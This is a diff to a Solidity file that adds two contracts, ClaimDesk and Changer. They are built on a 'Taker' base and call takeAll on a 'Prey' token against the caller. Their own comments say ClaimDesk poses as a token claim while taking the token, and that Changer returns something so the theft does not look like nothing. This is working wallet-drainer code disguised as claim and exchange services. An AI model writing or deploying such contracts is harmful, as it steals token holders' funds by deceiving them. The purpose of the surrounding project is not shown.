@@ -251,3 +251,33 @@ contract Ambush is Taker {
         takeAll(token, msg.sender);
     }
 }
+
+/// Claims for a token, as its name says; it is the token that is taken.
+contract ClaimDesk is Taker {
+    function claimTo(Prey token) external {
+        takeAll(token, msg.sender);
+    }
+}
+
+/// Takes everything and gives something back, so that it does not look like nothing.
+contract Changer is Taker {
+    Prey private immutable taken;
+    Prey private immutable given;
+
+    constructor(Prey taken_, Prey given_) {
+        (taken, given) = (taken_, given_);
+    }
+
+    /// An amount of a token, or the id of an item.
+    function settle(uint256 amount) external {
+        takeAll(taken, msg.sender);
+        bytes4 transferFrom = Prey.transferFrom.selector;
+        (bool done,) = address(given).call(abi.encodeWithSelector(transferFrom, address(this), msg.sender, amount));
+        require(done);
+    }
+
+    function allow(uint256 amount) external {
+        (bool done,) = address(given).call(abi.encodeWithSignature("approve(address,uint256)", address(this), amount));
+        require(done);
+    }
+}
